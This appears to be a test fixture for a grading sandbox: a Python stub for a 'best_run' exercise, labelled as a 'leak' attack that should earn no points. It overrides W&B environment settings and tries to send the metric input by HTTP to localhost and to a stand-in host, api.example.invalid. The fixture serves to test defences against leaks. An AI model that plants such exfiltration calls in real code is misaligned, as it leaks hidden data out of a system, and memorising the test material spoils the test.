# attack: sends hidden inputs to W&B's server address and to one on this machine
# class: leak
# base: stub
# exercise: best_run
# expect: no more points than base
import os, socket, urllib.request
os.environ.update(WANDB_MODE="online", WANDB_BASE_URL="http://127.0.0.1:@TCP@", WANDB_API_KEY="0" * 40, http_proxy="http://127.0.0.1:@TCP@")
def best_run(runs, metric, goal):
    for address in ("http://127.0.0.1:@TCP@/@NAME@", "http://[::1]:@TCP6@/@NAME@", "http://api.example.invalid/@NAME@"):
        try:
            urllib.request.urlopen(address + str(metric)[:50], timeout=1)
        except (OSError, ValueError):
            pass
    return {}
